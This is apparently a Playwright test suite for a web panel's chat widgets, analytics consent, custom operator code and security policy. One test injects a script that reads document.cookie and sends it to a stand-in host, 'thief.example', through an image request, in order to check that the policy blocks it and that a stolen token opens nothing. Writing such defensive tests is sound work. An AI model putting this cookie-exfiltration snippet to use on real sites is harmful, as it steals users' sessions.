import { createHmac } from 'node:crypto';
import { type APIRequestContext, expect, type Page } from '@playwright/test';
import { mintCode, mintSession, setPanelCode } from '../support/database.ts';
import { hydrated } from '../support/hydrated.ts';
import { changeSettings } from '../support/panel-settings.ts';
import { signIn } from '../support/sign-in.ts';
import { test } from '../support/test.ts';

const nothing = {
  intercomAppId: null,
  jivoAppId: null,
  googleAnalytics4Id: null,
  tagManagerId: null,
};

/** Sets the panel's own script and waits until pages have it. */
async function useCode(request: APIRequestContext, customCode: string | null, imageHosts: string[] = []) {
  await setPanelCode({ customCode, imageHosts });
  const reported = async () => {
    const settings = (await (await request.get('/settings', { headers: { accept: 'application/json' } })).json()).data;
    return settings.customCode;
  };
  await expect.poll(reported).toBe(customCode);
}

test.afterEach(async ({ request }) => {
  await useCode(request, null);
  await changeSettings(request, nothing);
});

// Local scripts in place of the providers': they write down what they are sent.
const intercom = `
  const waiting = window.Intercom.q;
  window.reported = [];
  window.Intercom = (...words) => {
    window.reported.push(words);
    sessionStorage.setItem('reported', JSON.stringify(window.reported));
  };
  for (const words of waiting) window.Intercom(...words);`;
const jivo = `
  window.reported = [];
  const note = (name) => (...words) => window.reported.push([name, ...words]);
  window.jivo_api = Object.fromEntries(
    ['open', 'setContactInfo', 'setCustomData', 'setUserToken', 'setWidgetColor', 'clearHistory'].map((name) => [name, note(name)]),
  );
  window.jivo_onLoadCallback();`;

/** Every request to other hosts; the providers are played by local scripts, nothing leaves the machine. */
async function outside(page: Page): Promise<string[]> {
  const requested: string[] = [];
  await page.route(
    (url) => url.hostname !== 'localhost' && !url.hostname.endsWith('.localhost'),
    (route) => {
      const url = route.request().url();
      requested.push(url);
      const body = url.includes('intercom') ? intercom : url.includes('jivosite') ? jivo : 'window.measured = true;';
      return route.fulfill({ contentType: 'text/javascript', body });
    },
  );
  return requested;
}

/** As a visitor who allowed cookies before: without that the chat comes only when it is asked for. */
const allowCookies = (page: Page) =>
  page.addInitScript(() =>
    localStorage.setItem('cookie-consent', '{"v":1,"analytics":"granted","advertising":"granted"}'),
  );

/** The part of the page that brings others in: requested when they may come, and not before. */
function starts(page: Page): string[] {
  const requested: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/start-late-scripts')) requested.push(request.url());
  });
  return requested;
}

/** When this call is answered, whatever the page has requested before it is known here. */
const askLater = (page: Page) => page.evaluate(async () => void (await fetch('/health/live')));

/** The panel's own script is the first of them; when it has run, the others have been requested. */
const startedLate = (page: Page) => page.waitForFunction(() => 'hasStarted' in window);
const startMark = 'window.hasStarted = true;';

const reported = (page: Page) => page.evaluate(() => (window as unknown as { reported?: unknown[][] }).reported ?? []);

async function use(page: Page) {
  await hydrated(page);
  await page.keyboard.press('Shift');
}

/** The button of the html banner at the foot of the index opens the chat. */
async function requestChat(page: Page) {
  await page.locator('[data-banner-place="services_pricing_long"]').scrollIntoViewIfNeeded();
  await page.frameLocator('[data-banner-place="services_pricing_long"] iframe').getByRole('button').click();
}

test('the chat is fetched at the first use of the page and not before (CHAT-005, INST-010)', async ({
  page,
  request,
}) => {
  await allowCookies(page);
  await changeSettings(request, { intercomAppId: 'abc123', jivoAppId: 'xyz789' });
  const requested = await outside(page);
  const started = starts(page);
  await page.goto('/');
  await hydrated(page);
  await page.mouse.move(200, 200);
  await askLater(page);
  expect([started, requested]).toEqual([[], []]);
  await use(page);
  await expect.poll(() => requested).toEqual(['https://widget.intercom.io/widget/abc123']);
  expect(started).toHaveLength(1);
});

test('without consent the chat waits: for the visitor to allow cookies, or to ask for it (CHAT-008)', async ({
  page,
  request,
  context,
}) => {
  await changeSettings(request, { intercomAppId: 'abc123' });
  await useCode(request, startMark);
  const requested = await outside(page);
  const chats = () => requested.filter((url) => url.includes('intercom'));
  await context.clearCookies({ name: 'use-cookie' });
  await page.goto('/');
  await use(page);
  await startedLate(page);
  await askLater(page);
  expect(chats()).toEqual([]);
  const question = page.getByRole('region', { name: 'Cookies' });
  await question.getByRole('button', { name: 'Decline' }).click();
  await expect(question).toHaveCount(0);
  await askLater(page);
  expect(chats()).toEqual([]);
  await requestChat(page);
  await expect.poll(chats).toHaveLength(1);

  await page.evaluate(() => localStorage.clear());
  await context.clearCookies({ name: 'use-cookie' });
  await page.goto('/');
  await use(page);
  await startedLate(page);
  await question.getByRole('button', { name: 'Accept' }).click();
  await expect.poll(chats).toHaveLength(2);
});

test('who does nothing gets it after 25 seconds (INST-010)', async ({ page, request }) => {
  await allowCookies(page);
  await changeSettings(request, { jivoAppId: 'xyz789' });
  await page.clock.install();
  const requested = await outside(page);
  const started = starts(page);
  await page.goto('/');
  await hydrated(page);
  // The page has been counting since it listens, on a busy machine for some seconds. From here its clock is stopped.
  await page.clock.pauseAt((await page.evaluate(() => Date.now())) + 20_000);
  await askLater(page);
  expect([started, requested]).toEqual([[], []]);
  await page.clock.runFor(5_000);
  await expect.poll(() => requested).toEqual(['https://code.jivosite.com/widget/xyz789']);
});

test('a press before the chat is there opens it when it comes, in the panel’s colour (BANN-008, CHAT-006)', async ({
  page,
  request,
}) => {
  await changeSettings(request, { intercomAppId: 'abc123' });
  await outside(page);
  await page.goto('/');
  await requestChat(page);
  // What a button of the panel is painted with, as numbers that every script can read.
  const colour = await page.evaluate(() => {
    const paint = document.createElement('canvas').getContext('2d') as CanvasRenderingContext2D;
    paint.fillStyle = getComputedStyle(document.documentElement).getPropertyValue('--primary').trim();
    paint.fillRect(0, 0, 1, 1);
    const parts = [...paint.getImageData(0, 0, 1, 1).data].slice(0, 3);
    return `#${parts.map((part) => part.toString(16).padStart(2, '0')).join('')}`;
  });
  expect(colour).not.toBe('#000000');
  await expect
    .poll(() => reported(page))
    .toEqual([
      ['boot', { app_id: 'abc123' }],
      ['update', { action_color: colour, background_color: colour }],
      ['show'],
    ]);
  await requestChat(page);
  await expect.poll(async () => (await reported(page)).filter(([name]) => name === 'show')).toHaveLength(2);
  expect((await reported(page)).filter(([name]) => name === 'update')).toHaveLength(1);
});

test('the chat knows a customer by id, e-mail, name and the proof of the panel, and is shut down when they leave (CHAT-007)', async ({
  page,
  request,
  context,
}) => {
  await allowCookies(page);
  const headers = { authorization: `Bearer ${await mintSession({ email: 'owner@crescendo.test' })}` };
  const keep = (value: string | null) =>
    request.put('/api/v1/admin/secrets/chatIdentity', { headers, data: { value } });
  expect((await keep('given-by-the-provider')).status()).toBe(200);
  await changeSettings(request, { intercomAppId: 'abc123' });
  await outside(page);
  await signIn(context);
  await page.goto('/');
  await use(page);
  const known = async () => (await reported(page)).find(([, words]) => (words as { user_id?: string })?.user_id)?.[1];
  await expect.poll(known).toBeDefined();
  const { user_id, ...person } = (await known()) as { user_id: string };
  expect(person).toEqual({
    email: 'demo@crescendo.test',
    name: 'Demo customer',
    user_hash: createHmac('sha256', 'given-by-the-provider').update(user_id).digest('hex'),
  });
  expect(await reported(page)).not.toContainEqual(['shutdown']);
  await page.getByRole('button', { name: 'Account: Demo customer' }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page).toHaveURL(/\/login$/);
  const before = await page.evaluate(() => JSON.parse(sessionStorage.getItem('reported') ?? '[]'));
  expect(before).toContainEqual(['shutdown']);

  // A person who left before the chat was loaded is forgotten when it loads next, and only once.
  await signIn(context);
  await page.goto('/');
  await hydrated(page);
  await context.clearCookies({ name: 'authToken' });
  await page.goto('/');
  await use(page);
  await expect.poll(() => reported(page)).toContainEqual(['shutdown']);
  await page.goto('/');
  await use(page);
  await expect.poll(() => reported(page)).not.toEqual([]);
  expect(await reported(page)).not.toContainEqual(['shutdown']);
  await keep(null);
});

test('Jivo does the same by its own words', async ({ page, request, context }) => {
  await changeSettings(request, { jivoAppId: 'xyz789' });
  await outside(page);
  await signIn(context);
  await page.goto('/');
  await requestChat(page);
  await expect
    .poll(async () => (await reported(page)).map(([name]) => name))
    .toEqual(['setWidgetColor', 'setContactInfo', 'setCustomData', 'open']);
});

test('a chat that cannot be fetched leaves the support’s mailbox; where there is none, nothing is loaded (CHAT-004)', async ({
  page,
  request,
}) => {
  const mailed = async () => {
    await page.evaluate(() => {
      document.addEventListener('click', (event) => {
        const { href } = event.target as HTMLAnchorElement;
        if (!href?.startsWith('mailto:')) return;
        event.preventDefault();
        document.body.dataset.mailed = href;
      });
    });
    await requestChat(page);
    await expect(page.locator('body')).toHaveAttribute('data-mailed', 'mailto:support@crescendo.test');
  };
  const requested = await outside(page);
  await useCode(request, startMark);
  await page.goto('/');
  await use(page);
  await startedLate(page);
  await askLater(page);
  expect(requested).toEqual([]);

  await changeSettings(request, { intercomAppId: 'abc123' });
  await page.route('https://widget.intercom.io/**', (route) => route.abort());
  await page.goto('/');
  await mailed();
});

test('Analytics and the tag manager load only when configured, and only after a grant (INST-009)', async ({
  page,
  request,
}) => {
  const grant = () =>
    page.evaluate(() => {
      localStorage.setItem('cookie-consent', JSON.stringify({ v: 1, analytics: 'granted', advertising: 'granted' }));
      dispatchEvent(new Event('consent-changed'));
    });
  const requested = await outside(page);
  await useCode(request, startMark);
  await page.goto('/');
  await use(page);
  await startedLate(page);
  await grant();
  await askLater(page);
  expect(requested).toEqual([]);

  await changeSettings(request, { googleAnalytics4Id: 'G-TEST1', tagManagerId: 'GTM-TEST1' });
  await page.evaluate(() => localStorage.clear());
  await page.goto('/');
  await use(page);
  await startedLate(page);
  await askLater(page);
  expect(requested).toEqual([]);
  const consents = await page.evaluate(() =>
    ((window as unknown as { dataLayer?: unknown[][] }).dataLayer ?? []).map((call) => Array.from(call)),
  );
  expect(consents).toContainEqual([
    'consent',
    'default',
    { ad_storage: 'denied', ad_user_data: 'denied', ad_personalization: 'denied', analytics_storage: 'denied' },
  ]);
  await grant();
  await expect
    .poll(() => requested)
    .toEqual([
      'https://www.googletagmanager.com/gtag/js?id=G-TEST1',
      'https://www.googletagmanager.com/gtm.js?id=GTM-TEST1',
    ]);
  await grant();
  await askLater(page);
  expect(requested).toHaveLength(2);
});

test('custom code runs as a script file of the panel, without eval (SECU-003, INST-008)', async ({ page, request }) => {
  const customCode = `
    window.where = document.currentScript.src;
    try { eval('window.evaluated = true'); } catch (error) { window.refused = error.name; }`;
  await useCode(request, customCode);
  const started = starts(page);
  await page.goto('/');
  const seen = () =>
    page.evaluate(() => {
      const { where, refused, evaluated } = window as unknown as Record<string, string | undefined>;
      return { path: where && new URL(where).pathname, refused, evaluated };
    });
  await hydrated(page);
  await askLater(page);
  expect([started, (await seen()).path]).toEqual([[], undefined]);
  await use(page);
  await expect.poll(seen).toEqual({ path: '/panel-code.js', refused: 'EvalError', evaluated: undefined });
});

test('custom code that fails costs only itself (SECU-003)', async ({ page, request }) => {
  await allowCookies(page);
  await useCode(request, 'throw new Error("of the operator")');
  await changeSettings(request, { intercomAppId: 'abc123' });
  await outside(page);
  await page.goto('/');
  await use(page);
  await expect.poll(async () => (await reported(page)).length).toBeGreaterThan(0);
  await expect(page.getByRole('heading', { level: 1, name: 'Services' })).toBeVisible();
});

test('custom code cannot send the token away as a picture, and the token alone opens nothing (SECU-020, SECU-024)', async ({
  browser,
  request,
  baseURL,
}) => {
  await useCode(
    request,
    `addEventListener('securitypolicyviolation', ({ blockedURI }) => { window.refused = blockedURI; });
    window.read = document.cookie;
    for (const host of ['thief.example', 'pictures.example']) {
      new Image().src = 'https://' + host + '/?' + encodeURIComponent(document.cookie);
    }`,
    ['pictures.example'],
  );
  const context = await browser.newContext({ baseURL: baseURL as string });
  const page = await context.newPage();
  const requested = await outside(page);
  await page.goto(`/impersonate?token=${await mintCode()}`);
  await use(page);
  const seen = () =>
    page.evaluate(() => Object.fromEntries(Object.entries(window).filter(([name]) => name === 'refused')));
  await expect.poll(seen).toEqual({ refused: expect.stringContaining('https://thief.example') });
  await expect.poll(() => requested.map((url) => new URL(url).hostname)).toEqual(['pictures.example']);
  const read = await page.evaluate(() => (window as unknown as { read: string }).read);
  const token = /authToken=([\w-]{43})/.exec(read)?.[1];
  expect(token).toBeDefined();
  expect(read).not.toContain('shop-key');
  const stolen = await request.get('/api/v1/profile', { headers: { authorization: `Bearer ${token}` } });
  expect(stolen.status()).toBe(401);
  // The page itself goes on: its calls bring the cookie along.
  const own = page.waitForResponse((response) => response.url().includes('/refresh'));
  await page.reload();
  expect((await own).status()).toBe(200);
  await context.close();
});

test('the policy opens the hosts of configured providers, and nothing when none is (SECU-003)', async ({ request }) => {
  const policy = async () => (await request.get('/')).headers()['content-security-policy'] ?? '';
  const hosts = (text: string) => text.match(/\b(https|wss):\/\/[^\s;]+/g) ?? [];
  expect(hosts(await policy())).toEqual([]);
  expect(await policy()).toContain(`frame-src 'self';`);
  await changeSettings(request, { jivoAppId: 'xyz789' });
  const opened = hosts(await policy());
  expect(opened.length).toBeGreaterThan(0);
  expect(opened.every((host) => host.endsWith('.jivosite.com'))).toBe(true);
  expect(await policy()).not.toMatch(/unsafe-(inline|eval)/);
});

test('settings are read again every ten minutes, without a new page (INST-007)', async ({ page, request }) => {
  await page.clock.install();
  await page.goto('/');
  await expect(page.getByRole('contentinfo')).toContainText('support@crescendo.test');
  await changeSettings(request, { supportEmail: 'help@crescendo.test' });
  try {
    await hydrated(page);
    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
    await page.clock.runFor(11 * 60_000);
    await expect(page.getByRole('contentinfo')).toContainText('help@crescendo.test');
    expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
  } finally {
    await changeSettings(request, { supportEmail: 'support@crescendo.test' });
  }
});
